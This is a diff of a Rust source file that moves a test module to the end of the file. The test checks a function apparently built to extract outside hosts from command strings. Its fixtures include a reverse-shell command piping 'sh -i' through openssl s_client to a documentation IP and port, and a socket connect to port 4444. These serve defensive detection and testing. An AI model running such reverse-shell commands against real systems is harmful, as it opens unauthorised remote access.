@@ -138,17 +138,6 @@ fn outside(command: &str) -> impl Iterator<Item = &str> {
     })
 }
 
-#[cfg(test)]
-mod tests {
-    #[test]
-    fn a_command_names_where_it_goes() {
-        let named = |text| super::outside(text).collect::<Vec<_>>();
-        assert_eq!(named("sh -i | openssl s_client -connect 203.0.113.50:8443 >/tmp/p"), ["203.0.113.50"]);
-        assert_eq!(named("connect((\"198.51.100.9\",4444)) from 10.0.0.1"), ["198.51.100.9"]);
-        assert_eq!(named("setup.exe /v 6.1.7601.17514 127.0.0.1"), Vec::<&str>::new());
-    }
-}
-
 impl Sheet<'_> {
     fn take_match(&mut self, event: &Event<'_>, host: &str, found: &Match) {
         let core = &event.core;
@@ -244,5 +233,16 @@ impl Sink for Sheet<'_> {
 
     fn nested(&mut self, name: &str, bytes: Vec<u8>) {
         self.tally.nested.push((name.to_owned(), bytes));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn a_command_names_where_it_goes() {
+        let named = |text| super::outside(text).collect::<Vec<_>>();
+        assert_eq!(named("sh -i | openssl s_client -connect 203.0.113.50:8443 >/tmp/p"), ["203.0.113.50"]);
+        assert_eq!(named("connect((\"198.51.100.9\",4444)) from 10.0.0.1"), ["198.51.100.9"]);
+        assert_eq!(named("setup.exe /v 6.1.7601.17514 127.0.0.1"), Vec::<&str>::new());
     }
 }
